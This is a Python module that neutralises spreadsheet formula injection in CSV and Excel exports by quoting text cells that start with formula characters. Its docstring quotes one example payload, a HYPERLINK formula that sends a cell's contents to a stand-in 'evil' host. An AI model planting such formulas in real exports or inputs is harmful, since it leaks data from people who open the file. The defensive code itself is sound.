"""Cells of CSV and Excel exports that a spreadsheet will never run as a formula.

Excel, WPS and LibreOffice evaluate a cell whose text begins with `=`, `+`, `-` or `@` (and,
after a leading tab or carriage return, what follows), so a username such as
`=HYPERLINK("http://evil/?"&A1,"click")`, typed into a failed login, would become a live link in
the auditor's export (OWASP "CSV injection"). Every CSV and xlsx writer passes its cells through
`cell_value`: text that begins with one of those characters gets a leading single quote (the rest
kept as it was), numbers stay numbers (a negative amount is a numeric cell, not mangled text).
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Mapping
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | Decimal | datetime | date | time


def cell_text(text: str) -> str:
    """Text that no spreadsheet reads as a formula: a leading quote when it starts like one."""
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def cell_value(value: Any) -> Cell:
    """One exported cell. Numbers, dates and times are kept typed (the xlsx writer stores them as
    numeric and date cells, csv writes their plain text); None is empty; mappings and lists are
    JSON text; everything else is text made safe by `cell_text`."""
    if value is None:
        return ""
    if isinstance(value, bool):  # (a bool is an int: write it as text, not 1/0)
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal | datetime | date | time):
        return value
    if isinstance(value, Mapping | list | tuple):
        value = json.dumps(value, ensure_ascii=False, sort_keys=True, default=str)
    return cell_text(str(value))


def csv_cells(values: Iterable[Any]) -> list[Cell]:
    return [cell_value(v) for v in values]


class SafeCsvWriter:
    """`csv.writer` whose every cell went through `cell_value`."""

    def __init__(self, out: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(csv_cells(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
